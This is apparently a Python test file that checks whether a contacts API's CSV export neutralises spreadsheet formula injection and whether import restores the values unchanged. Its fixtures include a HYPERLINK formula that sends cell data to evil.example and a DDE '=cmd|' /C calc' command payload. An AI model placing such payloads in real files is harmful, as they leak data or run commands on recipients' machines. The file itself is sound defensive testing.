"""Exports opened in a spreadsheet run no formulas (CSV injection): cells starting with
= + - @ get a leading quote, in the API's export and the console's download, and an
import reads them back as they were (the round trip keeps every value)."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
from conftest import Account
from fastapi import FastAPI
from helpers import created
from oauthflow import browser, new_user, sign_in
from test_imports import contacts_by_email, imported, names

from activecommerce.kit.csvcells import read_cell, safe_cell

PEOPLE = [
    {
        "email": "ann@example.com",
        "firstName": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "lastName": "@SUM(A1:A9)",
        "phone": "+49 30 1234",
    },
    {"email": "bob@example.com", "firstName": "-2+3", "lastName": "'=quoted", "phone": "'+1"},
    {"email": "cy@example.com", "firstName": "Cy", "lastName": "O'Neil", "phone": "555"},
]


def _rows(body: bytes) -> dict[str, list[str]]:
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0] == ["email", "firstName", "lastName", "phone", "status", "tags", "groups"]
    return {row[0]: row[1:4] + row[5:] for row in rows[1:]}


def _expected(tags: str) -> dict[str, list[str]]:
    return {
        "ann@example.com": [
            '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
            "'@SUM(A1:A9)",
            "'+49 30 1234",
            tags,
            "",
        ],
        "bob@example.com": ["'-2+3", "''=quoted", "''+1", "", ""],
        "cy@example.com": ["Cy", "O'Neil", "555", "", ""],
    }


def test_every_value_survives_the_quote() -> None:
    for value in ("", "'", "''", "=1", "'=1", "''+1", "-", "a=1", "'a", "\t1", "\r", "@"):
        assert read_cell(safe_cell(value)) == value
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("O'Neil") == "O'Neil"


async def test_exports_neutralise_formulas_and_import_back_as_they_were(
    app: FastAPI, account: Account, other: Account
) -> None:
    api = account.live  # the console opens live data
    for person in PEOPLE:
        contact = await created(api, "/v3/contacts", person)
    tag = await created(api, "/v3/contactTags", {"name": "=cmd|' /C calc'!A0"})
    first = (await contacts_by_email(api))["ann@example.com"]
    assert (await api.put(f"/v3/contacts/{first['id']}/tags/{tag['id']}")).status_code == 204
    assert contact  # the last one made

    exported = await api.get("/v3/contacts/export")
    assert exported.status_code == 200
    assert _rows(exported.content) == _expected("'=cmd|' /C calc'!A0")

    # The console's download is the same file.
    async with browser(app) as b:
        assert (await sign_in(b, await new_user(app, account.id), "/contacts")).status_code == 303
        download = await b.get("/contacts/export")
    assert download.status_code == 200
    assert "attachment" in download.headers["content-disposition"]
    assert download.content == exported.content

    # Imported elsewhere, the values are the originals, and so is its export.
    again = await imported(other.live, exported.content)
    assert (again["created"], again["failed"]) == (3, 0), again
    theirs = await contacts_by_email(other.live)
    for person in PEOPLE:
        got: dict[str, Any] = theirs[person["email"]]
        assert {k: got[k] for k in person} == person
    assert await names(other.live, theirs["ann@example.com"]["id"], "tags") == [tag["name"]]
    assert (await other.live.get("/v3/contacts/export")).content == exported.content


async def test_a_quote_typed_before_a_formula_character_is_not_kept(
    api: httpx.AsyncClient,
) -> None:
    body = b"email,firstName,phone\ndee@example.com,'=Dee,'+44 20 7946\n"
    assert (await imported(api, body))["created"] == 1
    dee = (await contacts_by_email(api))["dee@example.com"]
    assert (dee["firstName"], dee["phone"]) == ("=Dee", "+44 20 7946")
